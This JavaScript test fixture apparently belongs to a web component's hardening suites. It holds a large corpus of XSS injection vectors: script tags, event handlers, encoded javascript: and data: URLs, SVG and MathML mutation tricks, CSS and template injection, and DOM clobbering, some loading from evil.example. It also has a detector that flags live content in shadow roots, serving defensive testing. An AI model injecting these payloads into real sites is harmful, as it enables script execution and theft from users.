// The XSS corpus of the hardening suites (issue 13): known injection vectors, each a string an attacker could put in any
// field of a document or in the reader's light-DOM HTML. Every vector that would run script calls `__zwTrip()` (or
// `alert(1)`/`confirm(1)`/`prompt(1)`, which the suites replace with tripwires too): a suite passes only if no tripwire is
// ever called, no dialog opens, no navigation happens and nothing live exists in any shadow root.
// Plain strings (no template literal interpolation): `${…}` below is data. Shared by the Chromium suites
// (test/hardening/xss*.test.ts) and the pre-renderer's end-to-end check (test/e2e/hardening-xss-prerender.mjs).

const NUL = '\u0000';

/** @type {readonly string[]} */
export const XSS_VECTORS = Object.freeze([
  // --- script tags: plain, case, nesting, broken and unclosed tags, attributes, src
  '<script>__zwTrip()</script>',
  '<SCRIPT>__zwTrip()</SCRIPT>',
  '<ScRiPt>__zwTrip()</sCrIpT>',
  '<script >__zwTrip()</script >',
  '<script\n>__zwTrip()</script\n>',
  '<script/x>__zwTrip()</script>',
  '<script type="text/javascript">__zwTrip()</script>',
  '<script type=module>__zwTrip()</script>',
  '<script src="data:text/javascript,__zwTrip()"></script>',
  '<script src=//evil.example/x.js></script>',
  '<scr<script>ipt>__zwTrip()</scr</script>ipt>',
  '<<script>__zwTrip();//<</script>',
  '<script>__zwTrip()<!--',
  '<script>/*</script><script>*/__zwTrip()</script>',
  '"><script>__zwTrip()</script>',
  "'><script>__zwTrip()</script>",
  '</title><script>__zwTrip()</script>',
  '</textarea><script>__zwTrip()</script>',
  '<script>alert(1)</script>',
  '<script>confirm(1)</script>',
  '<script>prompt(1)</script>',
  '<script>window["__zw"+"Trip"]()</script>',
  '<script>eval("__zwTrip()")</script>',
  '<script>setTimeout("__zwTrip()")</script>',
  '<script\u000c>__zwTrip()</script>',
  '<script>\u2028__zwTrip()\u2029</script>',

  // --- event handlers on every kind of element
  '<img src=x onerror=__zwTrip()>',
  '<img src="x" onerror="__zwTrip()">',
  '<IMG SRC=x ONERROR=__zwTrip()>',
  '<img src=x onerror=__zwTrip()//',
  '<img/src=x/onerror=__zwTrip()>',
  '<img src=x:x onerror=alert(1)>',
  '<img src="/__zw/status/404" onerror="__zwTrip()">',
  '<img src=x onerror="&#95;&#95;zwTrip()">',
  '<img src=x onerror=\u0000__zwTrip()>',
  '<img src=1 onload=__zwTrip() onerror=__zwTrip()>',
  '<img src="x` `<script>__zwTrip()</script>"` `>',
  '<image src=x onerror=__zwTrip()>',
  '<svg onload=__zwTrip()>',
  '<svg/onload=__zwTrip()>',
  '<svg onload=__zwTrip()//',
  '<svg><g onload=__zwTrip()></g></svg>',
  '<body onload=__zwTrip()>',
  '<body onpageshow=__zwTrip()>',
  '<details open ontoggle=__zwTrip()>',
  '<details/open/ontoggle=alert(1)>',
  '<video src=x onerror=__zwTrip()></video>',
  '<video><source onerror=__zwTrip()></video>',
  '<audio src=x onerror=__zwTrip()></audio>',
  '<input autofocus onfocus=__zwTrip()>',
  '<input onblur=__zwTrip() autofocus><input autofocus>',
  '<select autofocus onfocus=__zwTrip()></select>',
  '<textarea autofocus onfocus=__zwTrip()></textarea>',
  '<keygen autofocus onfocus=__zwTrip()>',
  '<button autofocus onfocus=__zwTrip()>x</button>',
  '<div tabindex=1 autofocus onfocus=__zwTrip()>x</div>',
  '<a autofocus href=# onfocus=__zwTrip()>x</a>',
  '<marquee onstart=__zwTrip()>x</marquee>',
  '<marquee loop=1 width=0 onfinish=__zwTrip()>x</marquee>',
  '<iframe onload=__zwTrip()></iframe>',
  '<object data=x onerror=__zwTrip()></object>',
  '<style onload=__zwTrip()></style>',
  '<link rel=stylesheet href=x onerror=__zwTrip()>',
  '<div onmouseover=__zwTrip()>hover</div>',
  '<div onpointerenter=__zwTrip() style="position:fixed;inset:0">x</div>',
  '<div style="animation-name:x" onanimationstart=__zwTrip()>x</div>',
  '<p ontransitionend=__zwTrip()>x</p>',
  '<form><button formaction=javascript:__zwTrip()>x</button></form>',
  '<isindex type=image src=1 onerror=__zwTrip()>',
  '<table background=x onerror=__zwTrip()>',
  '<x onclick=__zwTrip()>click</x>',
  '<zw-policy-card onclick=__zwTrip()></zw-policy-card>',
  '<a onmouseover="__zwTrip()">x</a>',
  '" onmouseover="__zwTrip()" x="',
  "' onfocus='__zwTrip()' autofocus='",
  '" autofocus onfocus="__zwTrip()',
  '"><img src=x onerror=__zwTrip()>',
  '--><img src=x onerror=__zwTrip()>',
  ']]><img src=x onerror=__zwTrip()>',

  // --- javascript:/data:/vbscript: URLs in their encodings (the URL-shaped ones are also in XSS_URLS)
  'javascript:__zwTrip()',
  'javascript:alert(1)',
  'JAVASCRIPT:__zwTrip()',
  'JaVaScRiPt:__zwTrip()',
  ' javascript:__zwTrip()',
  '\u0001javascript:__zwTrip()',
  '\u0000javascript:__zwTrip()',
  '\u0020\u0009\u000a\u000d\u000cjavascript:__zwTrip()',
  'java\tscript:__zwTrip()',
  'java\nscript:__zwTrip()',
  'java\rscript:__zwTrip()',
  'jav\u0009ascript:__zwTrip()',
  'java\u0000script:__zwTrip()',
  'javascript\t:__zwTrip()',
  'javascript:/**/__zwTrip()',
  'javascript://%0a__zwTrip()',
  'javascript://comment%0A__zwTrip()',
  'javascript:%5F%5FzwTrip()',
  'javascript:void(__zwTrip())',
  'javascript:window.__zwTrip()',
  '&#106;avascript:__zwTrip()',
  '&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58__zwTrip()',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058__zwTrip()',
  '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;__zwTrip()',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A__zwTrip()',
  '&#X6a;avascript&#X3a;__zwTrip()',
  'javascript&colon;__zwTrip()',
  'java&Tab;script:__zwTrip()',
  'java&NewLine;script:__zwTrip()',
  'jav&#x09;ascript:__zwTrip()',
  'jav&#x0A;ascript:__zwTrip()',
  'jav&#x0D;ascript:__zwTrip()',
  '%6A%61%76%61%73%63%72%69%70%74%3A__zwTrip()',
  'javascript%3A__zwTrip()',
  '%20javascript:__zwTrip()',
  '\\u006aavascript:__zwTrip()',
  'data:text/html,<script>__zwTrip()</script>',
  'data:text/html;base64,PHNjcmlwdD5fX3p3VHJpcCgpPC9zY3JpcHQ+',
  'DATA:text/html,<script>__zwTrip()</script>',
  'data:image/svg+xml,<svg onload=__zwTrip()>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9X196d1RyaXAoKT4=',
  'data:application/javascript,__zwTrip()',
  ' data:text/html,<script>__zwTrip()</script>',
  'da\tta:text/html,<script>__zwTrip()</script>',
  'vbscript:msgbox(1)',
  'VBSCRIPT:__zwTrip()',
  'vbscript&colon;__zwTrip()',
  'livescript:__zwTrip()',
  'mocha:__zwTrip()',
  'jar:javascript:__zwTrip()',
  'blob:javascript:__zwTrip()',
  'filesystem:javascript:__zwTrip()',
  'view-source:javascript:__zwTrip()',
  'feed:javascript:__zwTrip()',
  'ja\u200bvascript:__zwTrip()',
  '\ufeffjavascript:__zwTrip()',
  '\u2028javascript:__zwTrip()',
  'javascript\u2028:__zwTrip()',
  'ｊａｖａｓｃｒｉｐｔ：__zwTrip()',
  'https:javascript:__zwTrip()',
  'http://x"onmouseover="__zwTrip()',
  "https://example.org/'><script>__zwTrip()</script>",
  'https://example.org/#"><img src=x onerror=__zwTrip()>',
  '//evil.example/%0d%0a<script>__zwTrip()</script>',
  '/\\evil.example/',
  '\\\\evil.example\\x',
  '<a href="javascript:__zwTrip()">link</a>',
  '<a href="&#106;avascript:__zwTrip()">link</a>',
  '<a href="java&#x09;script:__zwTrip()">link</a>',
  '<a href=" &#14;  javascript:__zwTrip()">link</a>',
  '<a href="data:text/html,<script>__zwTrip()</script>">link</a>',
  '<a href="vbscript:msgbox(1)">link</a>',
  '<a href=javas&#99;ript:__zwTrip()>link</a>',
  '<a href="j&#x0000000061;vascript:__zwTrip()">link</a>',
  '<iframe src=javascript:__zwTrip()></iframe>',
  '<iframe src="data:text/html,<script>parent.__zwTrip()</script>"></iframe>',
  '<iframe srcdoc="<script>parent.__zwTrip()</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.__zwTrip()&gt;"></iframe>',
  '<frameset><frame src=javascript:__zwTrip()></frameset>',
  '<object data=javascript:__zwTrip()></object>',
  '<object data="data:text/html,<script>__zwTrip()</script>"></object>',
  '<embed src=javascript:__zwTrip()>',
  '<embed src="data:image/svg+xml,<svg onload=__zwTrip()>">',
  '<form action=javascript:__zwTrip()><button>提交</button></form>',
  '<form><input type=submit formaction=javascript:__zwTrip() value=x></form>',
  '<form id=f action=javascript:__zwTrip()></form><button form=f>x</button>',
  '<a ping=https://evil.example/ href=#>x</a>',
  '<meta http-equiv=refresh content="0;url=javascript:__zwTrip()">',
  '<meta http-equiv="refresh" content="0; url=data:text/html,<script>__zwTrip()</script>">',
  '<meta charset=utf-7>+ADw-script+AD4-__zwTrip()+ADw-/script+AD4-',
  '<base href=javascript:__zwTrip()//>',
  '<base href="https://evil.example/">',
  '<link rel=import href=data:text/html,<script>__zwTrip()</script>>',
  '<link rel=preload as=script href=//evil.example/x.js>',
  '<area href=javascript:__zwTrip()>',
  '<math href=javascript:__zwTrip()>x</math>',
  '<isindex action=javascript:__zwTrip() type=submit>',

  // --- SVG tricks
  '<svg><script>__zwTrip()</script></svg>',
  '<svg><script href=data:,__zwTrip()></script></svg>',
  '<svg><script xlink:href=data:,__zwTrip()></script></svg>',
  '<svg><script>&#95;&#95;zwTrip()</script></svg>',
  '<svg><a xlink:href="javascript:__zwTrip()"><text x=20 y=20>x</text></a></svg>',
  '<svg><a href="javascript:__zwTrip()"><text y=20>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:__zwTrip() /><a id=x><text y=20>x</text></a></svg>',
  '<svg><a><animate attributeName=href values=javascript:__zwTrip()></animate><text y=20>x</text></a></svg>',
  '<svg><set attributeName=onmouseover to=__zwTrip()></set></svg>',
  '<svg><animate onbegin=__zwTrip() attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22><image href=1 onerror=__zwTrip() /></svg>#x"></use></svg>',
  '<svg><use xlink:href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nX196d1RyaXAoKScvPjwvc3ZnPg==#x"></use></svg>',
  '<svg><foreignObject><img src=x onerror=__zwTrip()></foreignObject></svg>',
  '<svg><title><img src=x onerror=__zwTrip()></title></svg>',
  '<svg><desc><![CDATA[</desc><script>__zwTrip()</script>]]></svg>',
  '<svg><style><img src=x onerror=__zwTrip()></style></svg>',
  '<svg><image href=x onerror=__zwTrip() /></svg>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">__zwTrip()</handler></svg>',
  '<svg><iframe src=javascript:__zwTrip()></iframe></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=__zwTrip()>">',
  '<svg><p><style><img src=x onerror=__zwTrip()>',

  // --- MathML tricks (the mglyph/malignmark mXSS family)
  '<math><mtext><table><mglyph><style><img src=x onerror=__zwTrip()>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=__zwTrip()&gt;">',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=__zwTrip()>"></style></h1>',
  '<math><mi><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=__zwTrip()>">',
  '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=__zwTrip()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=__zwTrip()>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=__zwTrip()></style></annotation-xml></math>',
  '<math><malignmark><style><img src=x onerror=__zwTrip()>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:__zwTrip()">x</maction></math>',
  '<math><a xlink:href=javascript:__zwTrip()>x</a></math>',

  // --- mutation XSS: raw-text and RCDATA contexts, namespace confusion, DOMPurify's historical bypasses
  '<noscript><p title="</noscript><img src=x onerror=__zwTrip()>">',
  '<noembed><img title="</noembed><img src=x onerror=__zwTrip()>"></noembed>',
  '<noframes><img title="</noframes><img src=x onerror=__zwTrip()>"></noframes>',
  '<xmp><img title="</xmp><img src=x onerror=__zwTrip()>"></xmp>',
  '<iframe><img title="</iframe><img src=x onerror=__zwTrip()>"></iframe>',
  '<textarea><img title="</textarea><img src=x onerror=__zwTrip()>"></textarea>',
  '<title><img title="</title><img src=x onerror=__zwTrip()>"></title>',
  '<style><img title="</style><img src=x onerror=__zwTrip()>"></style>',
  '<plaintext><img src=x onerror=__zwTrip()>',
  '<template><img src=x onerror=__zwTrip()></template>',
  '<template><script>__zwTrip()</script></template>',
  '</p><svg><style><img src=x onerror=__zwTrip()>',
  '<p></p><svg></p><style><a id="</style><img src=1 onerror=__zwTrip()>">',
  '<svg></p><textarea><title><style></textarea><img src=x onerror=__zwTrip()></style></title></svg>',
  '<table><svg><style><img src=x onerror=__zwTrip()>',
  '<listing>&lt;img src=x onerror=__zwTrip()&gt;</listing>',
  '<a title="&lt;/a&gt;&lt;img src=x onerror=__zwTrip()&gt;">x</a>',
  '<img alt="<x" title="/><img src=x onerror=__zwTrip()>">',
  '<!--><img src=x onerror=__zwTrip()>-->',
  '<!-- --!><img src=x onerror=__zwTrip()>-->',
  '<?xml version="1.0"?><img src=x onerror=__zwTrip()>',
  '<![CDATA[><img src=x onerror=__zwTrip()>]]>',
  '<div id="1"><form id="test"></form><button form="test" formaction="javascript:__zwTrip()">X</button>',
  '<a href="x" id="</a><img src=x onerror=__zwTrip()>">x</a>',
  '<select><template><style><img src=x onerror=__zwTrip()></style></template></select>',
  '<svg><script>__zwTrip()</script>',
  '<img src onerror=__zwTrip() srcset=x>',
  '<picture><source srcset=x onerror=__zwTrip()><img></picture>',

  // --- CSS injection
  '<div style="width:expression(__zwTrip())">x</div>',
  '<div style="background:url(javascript:__zwTrip())">x</div>',
  '<div style="behavior:url(x.htc);-moz-binding:url(x.xml#xss)">x</div>',
  '<style>@import "javascript:__zwTrip()";</style>',
  "<style>@import url('data:text/css,*{background:url(javascript:__zwTrip())}');</style>",
  '<style>*{background:url("javascript:__zwTrip()")}</style>',
  '</style><script>__zwTrip()</script>',
  '</style><img src=x onerror=__zwTrip()>',
  '<style>:host{display:none}</style>',
  '<style>.zw-root{display:none!important}</style>',
  'expression(__zwTrip())',
  'url(javascript:__zwTrip())',
  '};__zwTrip();{',
  'red;background:url(javascript:__zwTrip())',
  '<link rel=stylesheet href="data:text/css,body{background:url(javascript:__zwTrip())}">',

  // --- template-looking strings (Lit, Vue, Angular, handlebars, JS template literals)
  '${__zwTrip()}',
  '`${__zwTrip()}`',
  "{{constructor.constructor('__zwTrip()')()}}",
  '{{7*7}}',
  "{{$on.constructor('__zwTrip()')()}}",
  '[[${__zwTrip()}]]',
  '#{__zwTrip()}',
  '<%= __zwTrip() %>',
  '{% __zwTrip() %}',
  '<!--?lit$123$-->',
  '<!--?lit$123456789$--><img src=x onerror=__zwTrip()>',
  'lit$123456789$',
  '?lit$0$',
  '<?lit$1$>',
  '<!---->',
  '<!--lit-part AEmR7W+R0Ak=-->',
  '<!--/lit-part-->',
  '<template shadowrootmode=open><img src=x onerror=__zwTrip()></template>',
  '<div v-html="\'<img src=x onerror=__zwTrip()>\'"></div>',
  "<div ng-app>{{constructor.constructor('__zwTrip()')()}}</div>",

  // --- DOM clobbering names
  '<form id=x><input name=attributes></form>',
  '<img name=getElementById>',
  '<a id=__zwTrip href=#>x</a>',
  '<img id=__zwTrip name=__zwTrip>',
  '<form name=cookie></form>',
  '<img name=body><img name=documentElement>',
  '<a id=defaultView></a><a id=defaultView name=alert href=javascript:__zwTrip()></a>',
  '<form id=customElements></form>',
  '<iframe name=trustedTypes></iframe>',
  '<input id=shadowRoot><input id=shadowRoot>',
  '<a id=zw-root></a>',
  '<embed name=implementation>',
  '<object id=litHtmlPolicy></object>',

  // --- JSON and script breakouts (the pre-rendered <script type="application/json">)
  '</script><script>__zwTrip()</script>',
  '</SCRIPT><script>__zwTrip()</script>',
  '</script ><script>__zwTrip()</script>',
  '</script\t><img src=x onerror=__zwTrip()>',
  '<!--<script>',
  '<!--<script></script><script>__zwTrip()</script>-->',
  '"}</script><script>__zwTrip()</script>',
  '\\u003c/script\\u003e<script>__zwTrip()</script>',
  '\u2028\u2029',
  'a\u2028b\u2029c',
  '"};__zwTrip();//',
  "'};__zwTrip();//",
  '</template><img src=x onerror=__zwTrip()>',
  '</template></zw-policy-card><script>__zwTrip()</script>',
  '<div slot=zw-without-shadow-dom><img src=x onerror=__zwTrip()></div>',
  ']]></script><script>__zwTrip()</script>',

  // --- characters: RTL, zero-width, NUL, controls, lone surrogates
  '\u202e<img src=x onerror=__zwTrip()>',
  '\u202e)(piTwz__:tpircsavaj',
  '\u200b<\u200bscript>__zwTrip()</script>',
  '<scr\u0000ipt>__zwTrip()</scr\u0000ipt>',
  NUL + '<script>__zwTrip()</script>',
  '<img src=x onerror=__zwTrip()' + NUL + '>',
  '\u0008\u001b[31m<script>__zwTrip()</script>',
  '\ud800<script>__zwTrip()</script>\udfff',
  '\u00a0<img\u00a0src=x\u00a0onerror=__zwTrip()>',
  '＜script＞__zwTrip()＜/script＞',
  '\ufe64script\ufe65__zwTrip()\ufe64/script\ufe65',
  '\u3008script\u3009__zwTrip()',
  '<img src=x onerror=\u2028__zwTrip()>',
  '\u0085<svg onload=__zwTrip()>',
]);

/**
 * The URL-shaped vectors: what an attacker puts where a link goes (`url`, attachments, links). Every one must be refused
 * by validation (`unsafe-url` naming the path), never rendered as a link.
 * @type {readonly string[]}
 */
export const XSS_URLS = Object.freeze(XSS_VECTORS.filter((v) => isUrlShaped(v)));

/** A vector that is a URL with a scheme (possibly hidden by entities, controls, percent-encoding or white space). */
function isUrlShaped(vector) {
  if (vector.startsWith('<')) return false;
  // eslint-disable-next-line no-control-regex -- what URL parsing strips and drops
  const bare = vector.replace(/[\u0000-\u0020\u007f\u00a0\u2028\u2029\u200b\ufeff]/g, '');
  return /^(?:[a-z&#%\\ｊ][^:<(]*(?::|&colon;|%3A|&#x?0*3A;?|&#0*58;?|：))/i.test(bare) && !/^https?:\/\/[^\s]*$/i.test(vector) && !/^url\(|^red;|^expression/i.test(bare);
}

/**
 * Every live thing under `root` and in every shadow root below it (recursively), each as a short description: elements that
 * run or load active content (script, iframe, object, embed, frame, meta, base, link that loads, form with an action, SVG
 * animation), `on*` attributes, and URL attributes whose scheme, once leading controls and spaces and inner tabs/newlines are taken
 * away (as URL parsing does), is not http(s)/relative. Self-contained (no outer names): the end-to-end check runs it in a page through its source.
 * @param {ParentNode} root
 * @returns {string[]}
 */
export function liveThings(root) {
  const DANGEROUS = ['javascript', 'data', 'vbscript', 'livescript', 'mocha', 'jar', 'blob', 'filesystem', 'view-source', 'feed'];
  const URL_ATTRIBUTES = ['href', 'src', 'action', 'formaction', 'xlink:href', 'srcdoc', 'data', 'background', 'poster', 'ping', 'srcset', 'codebase', 'cite', 'dynsrc', 'lowsrc'];
  const LIVE = ['script', 'iframe', 'object', 'embed', 'frame', 'frameset', 'meta', 'base', 'applet', 'animate', 'set', 'handler', 'portal', 'fencedframe'];
  // What URL parsing does to an attribute's value (already decoded by the HTML parser: entities and %-escapes stay literal
  // there, a relative path): C0 controls and spaces trimmed from both ends, tabs and newlines dropped anywhere.
  const scheme = (value) =>
    // eslint-disable-next-line no-control-regex -- what URL parsing strips and drops
    /^([a-z][a-z0-9+.-]*):/i.exec(value.replace(/^[\u0000-\u0020]+/, '').replace(/[\t\n\r]/g, ''))?.[1].toLowerCase() ?? '';
  const found = [];
  const visit = (node) => {
    for (const el of node.querySelectorAll('*')) {
      const name = el.localName;
      // (the pre-rendered element's data child, `<script type="application/json">`, is data: it never runs)
      if (LIVE.includes(name) && !(name === 'script' && el.getAttribute('type') === 'application/json')) found.push(`<${name}>`);
      if (name === 'link' && /import|stylesheet|preload|prefetch|prerender|manifest|icon/i.test(el.getAttribute('rel') ?? '')) found.push(`<link rel=${el.getAttribute('rel')}>`);
      if (name === 'form' && el.hasAttribute('action')) found.push('<form action>');
      for (const attr of el.attributes) {
        if (attr.name.startsWith('on')) found.push(`<${name} ${attr.name}>`);
        if (attr.name === 'srcdoc' || ((URL_ATTRIBUTES.includes(attr.name) || attr.localName === 'href') && DANGEROUS.includes(scheme(attr.value))))
          found.push(`<${name} ${attr.name}="${attr.value.slice(0, 60)}">`);
        if (attr.name === 'style' && /expression|javascript:|url\(|behavior|binding/i.test(attr.value)) found.push(`<${name} style="${attr.value.slice(0, 60)}">`);
      }
      // (an href that is no URL at all has protocol ':' and goes nowhere)
      if ((name === 'a' || name === 'area') && typeof el.href === 'string' && el.href && !/^(?:https?|):$/.test(el.protocol)) found.push(`<${name} href> to ${el.protocol}`);
      if (el.shadowRoot) visit(el.shadowRoot);
    }
  };
  visit(root);
  return found;
}
